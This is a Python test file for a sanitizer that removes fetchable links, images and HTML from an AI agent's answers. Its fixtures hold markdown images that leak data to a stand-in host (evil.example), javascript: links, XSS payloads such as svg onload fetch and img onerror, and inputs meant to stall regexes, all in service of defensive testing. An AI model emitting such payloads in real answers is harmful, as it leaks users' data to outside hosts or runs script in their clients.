"""A written answer loads and opens nothing that no artifact holds, and stays readable."""

import re
import time

import pytest

from agents.model.links import REMOVED, defused

KNOWN = "- permit A920936, see https://city.example/permits/A920936 and (https://city.example/a_(b)).\n"
EVIL = "https://evil.example/p.png?q=31+Lantern+St"


@pytest.mark.parametrize(
    ("text", "told"),
    [
        (f"Done. ![x]({EVIL})", "Done. x"),
        (f'![a map]({EVIL} "title") shows it', "a map shows it"),
        (f"![a map](<{EVIL}>)", "a map"),
        ("![a map](//evil.example/p.png)", "a map"),
        ("![a map](https://city.example/permits/A920936)", "a map"),
        ("![a map](data:image/png;base64,AAAA)", "a map"),
        (f"See [the permit]({EVIL}).", "See the permit."),
        (f"[![a map]({EVIL})]({EVIL})", "a map"),
        ("[call](javascript:alert(1))", "call"),
        ("[call](java&#115;cript:alert(1))", "call"),
        ("[home](/board/)", "home"),
        ("[permit](https://city.example/permits/A920936)", "[permit](https://city.example/permits/A920936)"),
        ("[b](https://city.example/a_(b))", "[b](https://city.example/a_(b))"),
        ("see https://city.example/permits/A920936.", "see https://city.example/permits/A920936."),
        ("[permit](https://city.example/permits/A920936?q=secret)", "permit"),
        ("see https://city.example/permits/A920936?q=secret now", f"see {REMOVED} now"),
        (f"Go to {EVIL}, please.", f"Go to {REMOVED}, please."),
        (f"Go to <{EVIL}>.", f"Go to <{REMOVED}>."),
        ("Go to www.evil.example/x!", f"Go to {REMOVED}!"),
        (f"见{EVIL}。", f"见{REMOVED}。"),
        (f"See [here][1].\n\n[1]: {EVIL}\n", "See [here][1].\n\n"),
        (f'![pic][p]\n[p]: <{EVIL}> "t"', "pic\n"),
        (f'<img src="{EVIL}" onerror="x()">Hello <b>you</b>', "Hello you"),
        (f'<a href="{EVIL}">here</a>', "here"),
        ("<script>alert(1)</script>", "alert(1)"),
        (f"<img src={EVIL}", ""),
        (f"<svg/onload=fetch('{EVIL}')>x</svg>", "x"),
        ("a <!-- evil --> b", "a  b"),
    ],
)
def test_what_a_client_would_fetch_or_open_is_taken_out(text: str, told: str) -> None:
    assert defused(text, KNOWN) == told
    assert not re.search(r"evil|secret|!\[|<img|javascript", defused(text, KNOWN))


@pytest.mark.parametrize(
    "text",
    [
        "- V912354 Testing & Certification (code 1001.3.2): open, paperwork [record number removed] (see below)",
        "The door is < 3 feet and > 2; call 617-635-4500 [today].",
        "**Permits**: 1. A920936 *active*, 50% done; c1: met",
        "Not settled:\n  - No heat: housing needs an answer first",
        "1 < 2, a<b and b>c",
    ],
)
def test_ordinary_words_stay(text: str) -> None:
    assert defused(text, KNOWN) == text


@pytest.mark.parametrize(
    "text",
    [
        "<im<b>g src=//evil.example/p.png>",
        "![a![b![c](x)](y)](//evil.example/p.png)",
        "[a[b[c](x)](y)](//evil.example)",
        "[" * 9 + "x" + "](//evil.example)" * 9,
        "<im" * 9 + "<b>" + "g src=//evil.example>" * 9,
        "a" * 60 + EVIL,
    ],
)
def test_what_stands_in_something_else_is_taken_out_too(text: str) -> None:
    assert not re.search(r"\]\(|<\w|https?:", defused(text, KNOWN))


PIECES = (
    "[",
    "![",
    "](",
    "<a ",
    "[x](",
    "((((",
    "https://",
    "[a]:",
    "x",
    "=",
    "http",
    "a.a.a.",
    "(",
    '"',
    "'",
    "[x](a ",
    " ",
    "[x](\n",
    "<!--",
    "data:a",
    "<b",
)


@pytest.mark.parametrize("piece", PIECES)
@pytest.mark.parametrize("head", ["", "<a ", "[x](", "[a]:", "https://"])
def test_a_long_hostile_text_takes_no_time(head: str, piece: str) -> None:
    text = head + piece * (100_000 // len(piece)) + "<"
    started = time.thread_time()
    defused(text, text)
    assert time.thread_time() - started < 1
